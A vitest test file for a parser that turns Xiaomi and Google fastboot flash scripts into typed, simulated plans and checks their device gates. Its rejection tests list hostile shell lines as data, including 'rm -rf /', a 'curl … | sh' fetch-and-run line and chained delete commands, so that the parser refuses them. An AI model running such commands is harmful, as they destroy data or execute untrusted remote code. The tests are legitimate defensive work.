import { describe, expect, it } from 'vitest';
import { ExitCode } from '../../src/errors.js';
import { FlashPlanSchema, isDeviceOp, type FlashPlan, type PlanStep } from '../../src/plan/schema.js';
import { mergeTwin, modeFromName, opSignature, parseScript } from '../../src/rom/index.js';
import { ScriptInterpretError } from '../../src/rom/script/interp/engine.js';
import { toolBox } from '../../src/rom/script/tools/index.js';
import { simulatePlan } from '../../src/plan/simulate.js';
import { checksOf } from '../../src/plan/checks.js';
import { fixture, fixtureScripts } from './helpers.js';

function parse(name: string, extra: { folderName?: string; readRomText?: (f: string) => string | undefined; listRomFiles?: () => readonly string[] } = {}): FlashPlan {
  return parseScript(fixture(name), { file: name, dialect: name.endsWith('.sh') ? 'sh' : 'bat', ...extra });
}
/** Where the plan stops for a model device (an exit's or refusal's line and message), or undefined when it runs through. */
function stopsFor(p: FlashPlan, vars: Record<string, string>, deviceInfo?: string[]): { line: number; message?: string; kind: string } | undefined {
  const s = simulatePlan(p.steps, { vars, ...(deviceInfo ? { deviceInfo } : {}) }, toolBox).stop;
  if (!s || (s.kind === 'exit' && s.status === 0)) return undefined;
  return { line: s.line, kind: s.kind, ...(s.message ? { message: s.message } : {}) };
}
const NOT_FLASH = /generate-factory-images-common|smartisan-oscar-edl/;
const ops = (p: FlashPlan) => p.steps.filter(isDeviceOp);
const brief = (s: PlanStep) =>
  s.kind === 'flash' ? `flash ${s.partition} ${s.file}` : s.kind === 'erase' ? `erase ${s.partition}` : s.kind === 'set-active' ? `set_active ${s.slot}` : s.kind === 'reboot' ? `reboot${s.target ? ' ' + s.target : ''}` : s.kind === 'lock' ? s.command : s.kind;

/**
 * Independent oracle: the device operations a Xiaomi .sh performs, read with a
 * plain regex over uncommented `fastboot $* …` lines (no knowledge of the parser).
 */
function oracleSh(text: string): string[] {
  const out: string[] = [];
  for (const raw of text.split('\n')) {
    const line = raw.trim().replace(/\s+/g, ' ').replace(/ \|\| handle_error.*$/, '');
    const m = /^fastboot \$\* (?:--disable-verification --disable-verity )?(.*)$/.exec(line);
    if (!m || m[1]!.startsWith('getvar') || m[1]!.includes('oem device-info')) continue;
    const w = m[1]!.split(' ');
    if (w[0] === 'flash') out.push(`flash ${w[1]} images/${m[1]!.split('/images/')[1]!.trim()}`);
    else if (w[0] === 'oem' && w[1] === 'lock') out.push('oem lock');
    else out.push(w.join(' '));
  }
  return out;
}

describe('every corpus script parses', () => {
  const xiaomi = fixtureScripts().filter((s) => /^(xiaomi|derived-xiaomi)-/.test(s.name));
  it('fixtures include every Xiaomi script of the corpus', () => {
    expect(xiaomi.length).toBe(33);
  });
  for (const s of [...xiaomi, ...fixtureScripts().filter((x) => x.name.startsWith('google-') && !NOT_FLASH.test(x.name))]) {
    it(s.name, () => {
      const plan = parse(s.name);
      expect(FlashPlanSchema.safeParse(plan).success).toBe(true);
      expect(ops(plan).length).toBeGreaterThan(3);
      // No step carries shell syntax: only typed fields (a blocking unknown gate quotes its source line).
      // (Messages and refusals quote the script; they are shown, never run.)
      expect(JSON.stringify(plan.steps.filter((x) => x.kind !== 'gate.unknown' && x.kind !== 'exit' && x.kind !== 'note'))).not.toMatch(/\$\*|%\*|dirname|%~dp0|`/);
    });
  }
  it('genuine Xiaomi .sh scripts: device ops equal an independent regex reading of the file', () => {
    for (const s of xiaomi.filter((x) => x.dialect === 'sh' && x.name.startsWith('xiaomi-'))) {
      expect(ops(parse(s.name)).map(brief), s.name).toEqual(oracleSh(fixture(s.name)));
    }
  });
});

describe('expected step sequences', () => {
  it('raphaelin flash_all.sh: anti gate, product gate, then vendor order ending in reboot', () => {
    const p = parse('xiaomi-raphaelin-v12-flash_all.sh');
    expect(p.source).toMatchObject({ dialect: 'sh', shell: 'dash', mode: 'clean', family: 'xiaomi' });
    // CURRENT_ANTI_VER=1: the script stops at line 4 for a device above 1, at line 5 for another product.
    expect(stopsFor(p, { product: 'raphaelin', anti: '2' })).toMatchObject({ line: 4, kind: 'exit' }); // where the script exits
    expect(stopsFor(p, { product: 'raphaelin', anti: '1' })).toBeUndefined();
    expect(stopsFor(p, { product: 'raphaelin' })).toBeUndefined();
    expect(stopsFor(p, { product: 'raphael', anti: '0' })).toEqual({ line: 6, kind: 'exit', message: 'Missmatching image and device' });
    // `grep "^product: *raphaelin"` has no `$`: a prefix match, said so.
    expect(stopsFor(p, { product: 'raphaelinx', anti: '0' })).toBeUndefined();
    expect(p.warnings.some((w) => /line 6: the product check is a prefix match/.test(w))).toBe(true);
    const o = ops(p);
    expect(o[0]).toMatchObject({ kind: 'erase', partition: 'boot', line: 7, onFailure: 'abort', message: 'Erase boot error' });
    expect(o.slice(1, 4).map(brief)).toEqual(['flash crclist images/crclist.txt', 'flash sparsecrclist images/sparsecrclist.txt', 'flash xbl images/xbl.elf']);
    expect(o.at(-1)).toMatchObject({ kind: 'reboot', onFailure: 'abort', message: 'Reboot error' });
    expect(o.filter((s) => s.kind === 'flash')).toHaveLength(44);
    // commented-out storsecbak/splash never run
    expect(o.some((s) => s.kind === 'flash' && (s.partition === 'storsecbak' || s.partition === 'splash'))).toBe(false);
    expect(o.every((s) => s.onFailure === 'abort' && !s.vendorUnchecked && !s.when)).toBe(true);
  });

  it('liuqin flash_all.sh: anti version from anti_version.txt, conditional CRC block, set_active before reboot', () => {
    const p = parse('xiaomi-liuqin-hyperos2-flash_all.sh', { readRomText: (f) => (f === 'images/anti_version.txt' ? '7\n' : undefined) });
    expect(stopsFor(p, { product: 'liuqin', anti: '8' })).toMatchObject({ line: 11, message: 'Current device antirollback version is greater than this pakcage' });
    expect(stopsFor(p, { product: 'liuqin', anti: '7', crc: '1' })).toBeUndefined();
    expect(stopsFor(p, { product: 'other', anti: '0' })).toMatchObject({ line: 2 });
    // Without the file the script compares with 0.
    const missing = parse('xiaomi-liuqin-hyperos2-flash_all.sh');
    expect(stopsFor(missing, { product: 'liuqin', anti: '1' })).toMatchObject({ line: 11 });
    expect(stopsFor(missing, { product: 'liuqin', anti: '0' })).toBeUndefined();
    const conditioned = ops(p).filter((s) => s.when);
    expect(conditioned.map(brief)).toEqual(['flash crclist images/crclist.txt', 'flash sparsecrclist images/sparsecrclist.txt']);
    expect(conditioned.every((s) => checksOf({ kind: 'exit', line: 0, onFailure: 'abort', status: 1, when: s.when! }, p.steps).join() === 'crc')).toBe(true);
    const o = ops(p).map(brief);
    expect(o.slice(2, 4)).toEqual(['erase boot_ab', 'flash abl_ab images/abl.elf']);
    expect(o.slice(-2)).toEqual(['set_active a', 'reboot']);
    // the message is shown verbatim even when it names another partition
    expect(p.steps.find((s) => s.kind === 'flash' && s.partition === 'imagefv_ab')?.message).toBe('Flash toolsfv error');
  });

  it('land flash_all.sh: banner note, prefix product gate, every op vendor-unchecked with the §6 policy', () => {
    const p = parse('xiaomi-land-miui8-flash_all.sh');
    expect(p.steps[0]).toMatchObject({ kind: 'note', text: 'land Fastboot Tool Ver 8.0' });
    expect(stopsFor(p, { product: 'kenzo' })).toEqual({ line: 5, kind: 'exit', message: 'Missmatching image and device' });
    expect(stopsFor(p, { product: 'land' })).toBeUndefined();
    expect(stopsFor(p, { product: 'landx' })).toBeUndefined(); // `^product: land`: a prefix match
    const o = ops(p);
    expect(o[0]).toMatchObject({ kind: 'flash', partition: 'partition', file: 'images/gpt_both0.bin' });
    expect(o.every((s) => s.vendorUnchecked)).toBe(true);
    expect(o.filter((s) => s.kind === 'flash').every((s) => s.onFailure === 'abort')).toBe(true);
    expect(o.filter((s) => s.kind === 'erase' || s.kind === 'reboot').every((s) => s.onFailure === 'ignore')).toBe(true);
  });

  it('cereus flash_all_lock.sh: handle_error aborts with its words; oem lock is a typed unchecked lock; exit 0 ends', () => {
    const p = parse('xiaomi-cereus-mtk-flash_all_lock.sh');
    expect(p.source.mode).toBe('lock');
    const pre = p.steps.find((s) => s.kind === 'flash' && s.partition === 'preloader');
    expect(pre).toMatchObject({ file: 'images/preloader_cereus.bin', onFailure: 'abort', message: 'flash preloader error' });
    const o = ops(p);
    expect(o.slice(-2)).toEqual([
      expect.objectContaining({ kind: 'lock', command: 'oem lock', onFailure: 'ignore', vendorUnchecked: true }),
      expect.objectContaining({ kind: 'reboot', onFailure: 'ignore', vendorUnchecked: true }),
    ]);
  });

  it('elish flash_all.sh: global flags before flash become typed flags; unchecked erase imagefv_a', () => {
    const p = parse('xiaomi-elish-ab-flash_all.sh');
    const vb = p.steps.filter((s) => s.kind === 'flash' && s.flags);
    expect(vb.map(brief)).toEqual(['flash vbmeta_a images/vbmeta.img', 'flash vbmeta_system_a images/vbmeta_system.img']);
    expect(vb[0]).toMatchObject({ flags: { disableVerity: true, disableVerification: true } });
    expect(p.warnings.some((w) => w.includes('AVB verification disabled'))).toBe(true);
    expect(p.steps.find((s) => s.kind === 'erase' && s.partition === 'imagefv_a')).toMatchObject({ onFailure: 'ignore', vendorUnchecked: true });
    expect(ops(p).slice(-2).map(brief)).toEqual(['set_active a', 'reboot']);
  });

  it('surya .bat: either product passes, the anti check exits in its block, the uploader\'s lines are flagged foreign', () => {
    const p = parse('xiaomi-surya-karna-pocox3-flash_all.bat');
    expect(stopsFor(p, { product: 'karna', anti: '2' })).toBeUndefined();
    expect(stopsFor(p, { product: 'surya' })).toBeUndefined();
    expect(stopsFor(p, { product: 'lmi', anti: '2' })).toEqual({ line: 2, kind: 'exit', message: 'Missmatching image and device' });
    expect(stopsFor(p, { product: 'surya', anti: '3' })).toEqual({ line: 8, kind: 'exit', message: 'current device antirollback version is greater than this package' });
    const foreign = p.steps.filter((s) => s.foreign);
    expect(foreign.map(brief)).toEqual(['reboot bootloader', 'flash recovery twrp.img', 'reboot recovery']);
    expect(p.warnings.some((w) => w.includes('lines 76, 77, 78'))).toBe(true);
  });

  it('land .bat: the product comes from the ROM folder\'s name, as %cd% gives it (B7)', () => {
    const china = parse('xiaomi-land-miui8-flash_all.bat', { folderName: 'land_images_china_8.0' });
    const global = parse('xiaomi-land-miui8-flash_all.bat', { folderName: 'land_global_images' });
    // findstr /r /x /c:"product: *%p%$" with p="landx" or p="land" (the quotes vanish in the argument)
    expect(stopsFor(china, { product: 'landx' })).toBeUndefined();
    expect(stopsFor(china, { product: 'land' })).toMatchObject({ line: 16, kind: 'exit' });
    expect(stopsFor(global, { product: 'land' })).toBeUndefined();
    expect(stopsFor(global, { product: 'landx' })).toMatchObject({ line: 16, kind: 'exit' });
    expect(global.steps[1]).toMatchObject({ kind: 'note', text: '"^ These images are only used for device "land""' });
  });

  it('oxygen lock_crc .bat: the secure check stops an insecure device; lmi: `if exist` takes the branch the ROM has, twice', () => {
    const o = parse('xiaomi-oxygen-miui11-n-flash_all_lock_crc.bat');
    expect(o.source.mode).toBe('lock-crc');
    expect(stopsFor(o, { product: 'oxygen', secure: 'no' })).toEqual({ line: 4, kind: 'exit', message: 'current devices is not in secure mode, flashing terminated!' });
    expect(stopsFor(o, { product: 'oxygen', secure: 'yes' })).toBeUndefined();
    const exaid = (p: FlashPlan) => ops(p).filter((s) => 'partition' in s && s.partition === 'exaid').map(brief);
    expect(exaid(parse('xiaomi-lmi-k30pro-flash_all.bat', { listRomFiles: () => ['images/exaid.img'] }))).toEqual(['flash exaid images/exaid.img', 'flash exaid images/exaid.img']);
    expect(exaid(parse('xiaomi-lmi-k30pro-flash_all.bat'))).toEqual(['erase exaid', 'erase exaid']);
  });

  it('mido (derived): ERE alternatives, unlock gate, flash:raw becomes a blocking refusal at its line', () => {
    const p = parse('derived-xiaomi-mido-miui_full_stock.sh');
    const unlocked = ['Device unlocked: true'];
    expect(stopsFor(p, { product: 'MSM8953' }, unlocked)?.kind).toBe('gate.unknown');
    expect(stopsFor(p, { product: 'mido' }, unlocked)).toMatchObject({ kind: 'gate.unknown', line: 87 });
    expect(stopsFor(p, { product: 'midox' }, unlocked)).toEqual({ line: 10, kind: 'exit', message: 'Missmatching image and device' });
    expect(stopsFor(p, { product: 'mido' }, ['Device unlocked: false'])).toEqual({ line: 15, kind: 'exit', message: 'Device oem locked' });
    expect(p.steps.find((s) => s.kind === 'gate.unknown')).toMatchObject({ line: 87, onFailure: 'abort', reason: expect.stringMatching(/mkbootimg/) });
  });

  it('begonia (derived .bat): flags after the file, -w, reboot recovery; @echo lines are notes, pause prints its prompt', () => {
    const p = parse('derived-xiaomi-begonia-mtk-modded-flash_all.bat');
    expect(p.steps.find((s) => s.kind === 'flash' && s.partition === 'vbmeta')).toMatchObject({ flags: { disableVerity: true, disableVerification: true } });
    expect(ops(p).slice(-2).map(brief)).toEqual(['wipe', 'reboot recovery']);
    // `title` sets the window title: nothing is printed.
    expect(p.steps[0]).toMatchObject({ kind: 'note', text: '12.5.1 Firmware Merged with 12.5.7 OTA Update' });
    expect(p.steps.at(-1)).toMatchObject({ kind: 'note', text: 'Press any key to continue . . . ' });
  });

  it('Google flash-all.sh: bootloader, reboot-bootloader, sleep, radio, update with -w and an android-info gate', () => {
    const p = parse('google-maguro-galaxynexus-jdq39-flash-all.sh');
    expect(p.source.family).toBe('google');
    // the update zip's android-info.txt is a gate checked before the first write
    expect(p.steps.map((s) => s.kind)).toEqual(['gate.android-info', 'flash', 'reboot', 'sleep', 'flash', 'reboot', 'sleep', 'update']);
    expect(p.steps[0]).toMatchObject({ file: 'image-takju-jdq39.zip', requirements: null, line: 23 });
    expect(p.steps[1]).toMatchObject({ partition: 'bootloader', file: 'bootloader-maguro-primelc03.img' });
    expect(p.steps[2]).toMatchObject({ target: 'bootloader' });
    expect(p.steps[3]).toMatchObject({ seconds: 5 });
    expect(p.steps[7]).toMatchObject({ file: 'image-takju-jdq39.zip', wipe: true, skipReboot: false });
    expect(p.steps.some((s) => s.foreign)).toBe(false);
  });
});

describe('.sh and .bat twins give the same device operations', () => {
  const twins = [
    'xiaomi-raphaelin-v12-flash_all',
    'xiaomi-raphaelin-v12-flash_all_lock',
    'xiaomi-raphaelin-v12-flash_all_except_storage',
    'xiaomi-liuqin-hyperos2-flash_all',
    'xiaomi-liuqin-hyperos2-flash_all_except_storage',
    'xiaomi-oxygen-miui11-n-flash_all',
    'xiaomi-oxygen-miui11-n-flash_all_lock',
    'xiaomi-oxygen-miui11-n-flash_all_except_storage',
    'xiaomi-land-miui8-flash_all',
    'xiaomi-land-miui8-flash_all_lock',
    'xiaomi-land-miui8-flash_all_except_data_storage',
    'xiaomi-cereus-mtk-flash_all_lock',
    'google-maguro-galaxynexus-jdq39-flash-all',
  ];
  for (const t of twins) {
    it(t, () => {
      const a = ops(parse(`${t}.sh`)).map(opSignature);
      const b = ops(parse(`${t}.bat`)).map(opSignature);
      expect(b).toEqual(a);
    });
  }
  it('land: the .sh is unchecked, the .bat checks flashes; the merged plan takes the stricter policy', () => {
    const sh = parse('xiaomi-land-miui8-flash_all.sh');
    const merged = mergeTwin(sh, parse('xiaomi-land-miui8-flash_all.bat', { folderName: 'land' }));
    expect(merged.source.twin).toBe('xiaomi-land-miui8-flash_all.bat');
    const tz = merged.steps.find((s) => s.kind === 'flash' && s.partition === 'tz')!;
    // echo prints the quotes: the message is what the vendor script shows
    expect(tz).toMatchObject({ onFailure: 'abort', message: '"Flash tz error"' });
    expect(tz.vendorUnchecked).toBeUndefined();
    // unchecked in both: stays vendor-unchecked
    expect(merged.steps.find((s) => s.kind === 'erase' && s.partition === 'mdtp')).toMatchObject({ onFailure: 'ignore', vendorUnchecked: true });
    expect(ops(merged).map(opSignature)).toEqual(ops(sh).map(opSignature));
  });
  it('twins that disagree are not merged, with a warning', () => {
    const merged = mergeTwin(parse('xiaomi-raphaelin-v12-flash_all.sh'), parse('xiaomi-raphaelin-v12-flash_all_lock.bat'));
    expect(merged.source.twin).toBeUndefined();
    expect(merged.warnings.at(-1)).toMatch(/different device operations/);
  });
});

describe('unknown lines are errors naming file, line and text', () => {
  const cases: Array<[string, 'sh' | 'bat', string, number]> = [
    ['flash_all.sh', 'sh', 'fastboot $* erase boot\nrm -rf /\nfastboot $* reboot\n', 2],
    ['flash_all.sh', 'sh', 'fastboot $* erase boot\ncurl -s http://example.invalid/x | sh\nfastboot $* reboot\n', 2],
    ['flash_all.sh', 'sh', 'fastboot $* flash boot `dirname $0`/../boot.img\n', 1],
    ['flash_all.sh', 'sh', 'exec fastboot reboot\n', 1],
    ['flash_all.bat', 'bat', 'fastboot %* erase boot\r\ndel /q %~dp0images\r\n', 2],
    ['flash_all.bat', 'bat', 'fastboot %* flash boot %~dp0images\\boot.img || @echo "x" && goto nowhere\n', 1],
    ['flash_all.bat', 'bat', 'fastboot %* erase boot & del x\n', 1],
  ];
  for (const [file, dialect, text, line] of cases) {
    it(`${dialect}: line ${line} of ${JSON.stringify(text.slice(0, 40))}`, () => {
      let err: unknown;
      try {
        parseScript(text, { file, dialect });
      } catch (e) {
        err = e;
      }
      expect(err).toBeInstanceOf(ScriptInterpretError);
      const e = err as ScriptInterpretError;
      expect(e.exitCode).toBe(ExitCode.BAD_INPUT);
      expect(e.file).toBe(file);
      expect(e.line).toBe(line);
      expect(e.text).toBe(text.split('\n')[line - 1]!.replace(/\r$/, ''));
      expect(e.message).toContain(`${file}:${line}:`);
    });
  }
  it('set -eu (CalyxOS) is interpreted: a failed operation stops the script', () => {
    const p = parseScript('#!/bin/bash\n\nset -eu\nfastboot flash x x.img\nfastboot erase y\n', { file: 'flash-all.sh', dialect: 'sh' });
    expect(p.source.shell).toBe('bash');
    expect(ops(p).map((s) => [brief(s), s.onFailure, s.vendorUnchecked ?? false])).toEqual([
      ['flash x x.img', 'abort', false],
      ['erase y', 'abort', false],
    ]);
  });
  it('an unsupported command reached only on some devices is a blocking step there, not a refusal of the whole script', () => {
    const p = parseScript('fastboot $* getvar product 2>&1 | grep -q taro && adb reboot\nfastboot $* reboot\n', { file: 'flash_all.sh', dialect: 'sh' });
    expect(stopsFor(p, { product: 'taro' })).toMatchObject({ kind: 'gate.unknown', line: 1 });
    expect(stopsFor(p, { product: 'Spacewar' })).toBeUndefined();
  });
  it('CRLF, tabs and missing final newline are accepted', () => {
    const p = parseScript('fastboot\t%*   flash  boot  "%~dp0images\\boot.img"   || @echo "Flash boot error" && exit /B 1\r\nfastboot %* reboot', { file: 'flash_all.bat', dialect: 'bat' });
    expect(p.steps.map(brief)).toEqual(['flash boot images/boot.img', 'reboot']);
    expect(p.steps[0]).toMatchObject({ onFailure: 'abort', message: '"Flash boot error"' });
  });
});

describe('modes from file names', () => {
  it('maps the MiFlash modes, old names included, with or without a provenance prefix', () => {
    expect(modeFromName('flash_all.sh')).toBe('clean');
    expect(modeFromName('flash_all.bat')).toBe('clean');
    expect(modeFromName('flash_all_except_storage.bat')).toBe('keep-data');
    expect(modeFromName('flash_all_except_data_storage.sh')).toBe('keep-data');
    expect(modeFromName('xiaomi-ysl-miui12-flash_all_except_data.sh')).toBe('keep-data');
    expect(modeFromName('flash_all_lock.sh')).toBe('lock');
    expect(modeFromName('xiaomi-oxygen-miui11-n-flash_all_lock_crc.bat')).toBe('lock-crc');
    expect(modeFromName('flash-all.sh')).toBe('clean');
    expect(modeFromName('flash-base.sh')).toBe('other');
  });
  it('warns when a keep-data script touches userdata', () => {
    const p = parseScript('fastboot $* flash userdata `dirname $0`/images/userdata.img\n', { file: 'flash_all_except_storage.sh', dialect: 'sh' });
    expect(p.warnings[0]).toMatch(/keep-data script touches user data \(flash userdata\)/);
  });
});

describe('variants outside the corpus (grammar §6)', () => {
  it('.bat: split CRC block, keypress before exit, doubled separator, plain findstr product check', () => {
    const text = [
      'fastboot %* getvar product 2>&1 | findstr "raphael" || echo Missmatching image and device',
      'fastboot %* getvar product 2>&1 | findstr "raphael" || exit /B 1',
      'fastboot %* getvar crc 2>&1 | findstr /r /c:"^crc: 1"',
      'if %errorlevel% equ 0 (',
      '    fastboot %* flash crclist %~dp0\\images\\crclist.txt || @echo "Flash crclist error" && pause && exit /B 1',
      ')',
      'fastboot %* flash boot %~dp0\\images\\boot.img || @echo "Flash boot error" && pause && exit /B 1',
      'fastboot %* oem fb_mode_set',
    ].join('\n');
    const p = parseScript(text, { file: 'flash_all.bat', dialect: 'bat' });
    // plain findstr: a substring match
    expect(stopsFor(p, { product: 'raphaelin' })).toBeUndefined();
    expect(stopsFor(p, { product: 'lmi' })).toEqual({ line: 2, kind: 'exit', message: 'Missmatching image and device' });
    expect(p.warnings.some((w) => w.includes('substring match'))).toBe(true);
    const run = (vars: Record<string, string>) => simulatePlan(p.steps, { vars }, toolBox).ran.filter(isDeviceOp).map(brief);
    expect(run({ product: 'raphael', crc: '1' })).toEqual(['flash crclist images/crclist.txt', 'flash boot images/boot.img', 'oem']);
    expect(run({ product: 'raphael', crc: '0' })).toEqual(['flash boot images/boot.img', 'oem']);
    // the message is what echo printed; pause's prompt comes after it and is not part of it
    expect(p.steps.find((s) => s.kind === 'flash' && s.partition === 'boot')).toMatchObject({ onFailure: 'abort', message: '"Flash boot error" \nPress any key to continue . . .' });
    expect(p.steps.find((s) => s.kind === 'oem')).toMatchObject({ args: ['fb_mode_set'], onFailure: 'ignore', vendorUnchecked: true });
  });

  it('--slot=other and --set-active=other (Google generator forms) become typed steps', () => {
    const p = parseScript('fastboot flash --slot=other bootloader bootloader.img\nfastboot --set-active=other reboot-bootloader\nfastboot --skip-reboot -w update image.zip\n', { file: 'flash-all.sh', dialect: 'sh' });
    expect(p.steps.map((s) => s.kind)).toEqual(['gate.android-info', 'flash', 'set-active', 'reboot', 'update']);
    expect(p.steps[1]).toMatchObject({ flags: { slot: 'other' } });
    expect(p.steps[2]).toMatchObject({ slot: 'other' });
    expect(p.steps[4]).toMatchObject({ wipe: true, skipReboot: true });
  });
});

// Gates the old shape recogniser knew by name are now just what the script computes.
describe('gates are interpreted, not recognised by shape', () => {
  it('.sh: a hardware-revision threshold read with awk', () => {
    const text = [
      'hwv=`fastboot $* getvar hw-revision 2>&1 | awk \'/hw-revision/ {print $2}\'`',
      'if [ -z "$hwv" ]; then hwv=0; fi',
      'if [ $hwv -lt 3 ]; then echo "hardware too old"; exit 1; fi',
      'fastboot $* flash boot `dirname $0`/images/boot.img',
    ].join('\n');
    const p = parseScript(text, { file: 'flash_all.sh', dialect: 'sh' });
    expect(stopsFor(p, { 'hw-revision': '2' })).toEqual({ line: 3, kind: 'exit', message: 'hardware too old' });
    // Without the variable, awk prints the FAILED line's second field: `[ FAILED -lt 3 ]` is an error under dash, the if is false.
    expect(stopsFor(p, {})).toBeUndefined();
    expect(stopsFor(p, { 'hw-revision': '3' })).toBeUndefined();
    expect(ops(p).map(brief)).toEqual(['flash boot images/boot.img']);
  });
  it('.bat: a security patch level compared in a block (GTR on non-numbers compares text)', () => {
    const text = [
      'for /f "tokens=2 delims=: " %%i in (\'fastboot %* getvar spl 2^>^&1 ^| findstr /r /c:"spl:"\') do (set spl=%%i)',
      'if [%spl%] EQU [] set spl=0',
      'if %spl% GTR 2024-01-01 (',
      '    echo device patch level is newer than this package',
      '    exit /B 1',
      ')',
      'fastboot %* reboot',
    ].join('\n');
    const p = parseScript(text, { file: 'flash_all.bat', dialect: 'bat' });
    expect(stopsFor(p, { spl: '2024-02-01' })).toEqual({ line: 5, kind: 'exit', message: 'device patch level is newer than this package' });
    expect(stopsFor(p, { spl: '2023-12-01' })).toBeUndefined();
    expect(stopsFor(p, {})).toBeUndefined();
    expect(ops(p).map(brief)).toEqual(['reboot']);
  });
  it('a check on any other value works the same (no list of known gates)', () => {
    const text = [
      'bat=`fastboot $* getvar battery-voltage 2>&1 | awk \'/battery-voltage/ {print $2}\'`',
      'if [ $bat -lt 3600 ]; then echo "battery too low"; exit 1; fi',
      'fastboot $* reboot',
    ].join('\n');
    const p = parseScript(text, { file: 'flash_all.sh', dialect: 'sh' });
    expect(stopsFor(p, { 'battery-voltage': '3500' })).toEqual({ line: 2, kind: 'exit', message: 'battery too low' });
    expect(stopsFor(p, { 'battery-voltage': '3900' })).toBeUndefined();
  });
});
